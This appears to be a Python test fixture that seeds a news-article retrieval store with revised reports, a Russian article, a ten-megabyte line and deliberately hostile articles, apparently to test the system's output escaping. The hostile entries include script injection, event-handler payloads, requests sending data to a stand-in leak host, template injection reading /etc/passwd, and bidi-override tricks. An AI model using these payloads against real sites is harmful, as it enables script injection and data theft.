"""A store of articles with earlier texts, of hostile ones, and of one that is a line of ten megabytes."""

from __future__ import annotations

import json
from contextlib import closing
from dataclasses import dataclass
from typing import TYPE_CHECKING

from corpus import Article
from retrieval.indexing.refresh import refresh
from retrieval.links.citation_links import CitationLinks
from retrieval.retriever import HybridRetriever
from retrieval.store.base_snapshot import BaseSnapshot
from retrieval.store.engine import store_engine
from retrieval.store.store import Store
from retrieval.store.writer import GenerationWriter
from tests.bot.web.served import web_settings
from tests.retrieval.counting_embeddings import CountingEmbeddings

if TYPE_CHECKING:
    from pathlib import Path

    from bot.web.settings import WebSettings

PUBLIC = "https://news.example/press"

LINE = "=" * 9_999_000
"""As long as an article may be, ten megabytes, without an end of line or a space."""

_FILLING = "\n\n".join(
    f"Paragraph {number} of the report tells at length of pumps, gates and the level of the water, as each day had it."
    for number in range(1, 61)
)
DAM = (
    f"The dam was begun in 1976.\n\n{_FILLING}\n\nThe second unit of the dam cost $3.9 billion, the ministry said.\n"
    "It was opened on a Monday.\n\nThe end of the report."
)
DAM_QUOTE = "The second unit of the dam cost $3.9 billion, the ministry said.\nIt was opened on a Monday."
DAM_BEFORE = (DAM.replace("3.9", "2.1"), DAM.replace("3.9", "2.8"))
"""What the report said before, the first text first."""

RUSSIAN = "Первый агрегат Рогунской ГЭС запущен 16 ноября 2018 года.\n\nНа церемонии был президент."

HOSTILE = {
    "script": (
        '</title><script>window.ran = 1</script><b>"Headline"</b>',
        "</div></article><script>window.ran = 1; fetch('https://leak.example/a')</script>\n"
        '<img src="https://leak.example/b" onerror="window.ran = 1"> <svg onload="window.ran = 1"></svg>\n\n'
        '<style>@import "https://leak.example/c"; body { display: none }</style>\n'
        '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe> <object data="https://leak.example/d"></object>\n'
        '<meta http-equiv="refresh" content="0; url=https://leak.example/e"> <base href="https://leak.example/">\n'
        "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} &lt;b&gt; &amp;amp; <!-- <p> --> ]]> \\u003cscript>",
    ),
    "form": (
        "javascript:alert(1)",
        '<form action="https://leak.example/f"><input name="password" autofocus onfocus="window.ran = 1">'
        '<button>Sign in</button></form> <a href="javascript:window.ran = 1">here</a> '
        '<a href="https://leak.example/g" ping="https://leak.example/h">there</a>\n'
        '<link rel="stylesheet" href="https://leak.example/i"><link rel="prefetch" href="https://leak.example/j">\n'
        '" onmouseover="window.ran = 1" x="\' onclick=\'window.ran = 1',
    ),
    "directions": (
        "abc \u202e fed \u2066 ghi",
        "Before \u202eoverridden\u202d and \u2067isolated \u200f\u061c marks,\u202b left open. Behind them.\n\nNext.",
    ),
}
"""Headlines and texts that try to be more than text, by the names of their files."""


@dataclass(frozen=True)
class ArticleStore:
    """A store, and what reads it.

    Attributes:
        settings: Those of a server over it.
        retriever: Without a model that could answer anything.
    """

    settings: WebSettings
    retriever: HybridRetriever

    def hostile(self, name: str) -> str:
        """The id of a hostile article."""
        return str(self.settings.home.parent / "articles" / f"{name}.txt")

    def text(self, article_id: str) -> str:
        """The text of an article, as it is kept."""
        with self.retriever.store.reading() as snapshot:
            article = snapshot.catalogue.article(article_id)
        assert article is not None
        return article.text

    def path(self, article_id: str, quote: str = "", text: str | None = None) -> str:
        """The way to an article's page at quoted words, below the public address."""
        pages = self.retriever.links.pages
        assert pages is not None
        start = (self.text(article_id) if text is None else text).index(quote)
        address = pages.address(article_id, start, quote)
        assert address is not None
        return address.removeprefix(PUBLIC)


def article_store(folder: Path) -> ArticleStore:
    """Make the store in a folder."""
    settings = web_settings(
        folder / "home",
        folder,
        PRESSCITE_PUBLIC_URL=PUBLIC,
        PRESSCITE_PASSAGE_CHARS="4000",
    )
    embeddings = CountingEmbeddings(settings)
    source = folder / "articles"
    source.mkdir()
    steady = [
        _record("copy", "Second unit opened", DAM, url="https://agency.example/dam", source="Agency & Sons"),
        _record("russian", "Рогун", RUSSIAN, url="https://gazeta.example/rogun", source="Газета"),
        _record(
            "facts", "&lt;b&gt;Facts&lt;/b&gt;", "Facts of it.", source="&lt;img src=x onerror=alert(1)&gt;",
            author='"&gt;&lt;script&gt;',
        ),
    ]  # fmt: skip
    (source / "steady.jsonl").write_text("\n".join(map(json.dumps, steady)), encoding="utf-8")
    for id_, (title, text) in HOSTILE.items():
        (source / f"{id_}.txt").write_text(f"{title}\n\n{text}", encoding="utf-8")
    for number, text in enumerate((*DAM_BEFORE, DAM)):
        updated = f"2026-03-0{number + 2}"
        changed = _record("dam", f"Dam opened, report {number}", text, source="Asia-Plus", updated=updated)
        (source / "changed.jsonl").write_text(json.dumps(changed) + "\n" * number, encoding="utf-8")
        report = refresh([source], settings, embeddings=embeddings)
        assert not report.failed, report.failed
    _put_line(settings, embeddings)
    retriever = HybridRetriever(
        store=Store.from_settings(settings),
        embeddings=embeddings,
        zone=settings.zone,
        links=CitationLinks.of(settings),
    )
    return ArticleStore(settings, retriever)


def _put_line(settings: WebSettings, embeddings: CountingEmbeddings) -> None:
    """Put the long article in as one passage: nobody asks about it, and many would take long to index."""
    engine = store_engine(settings)
    article = Article(id="line", title="A long line", text=LINE, origin="line")
    with (
        engine.locked(),
        closing(BaseSnapshot(engine, settings, engine.published())) as base,
        GenerationWriter(engine, settings, embeddings, base, passage_chars=2 * len(LINE)) as writer,
    ):
        writer.put(article, "line")
        writer.finish(lambda _: None)


def _record(id_: str, title: str, text: str, **facts: str) -> dict[str, str]:
    return {"id": id_, "title": title, "text": text, "published": "2026-03-01T23:30:00+05:00", **facts}
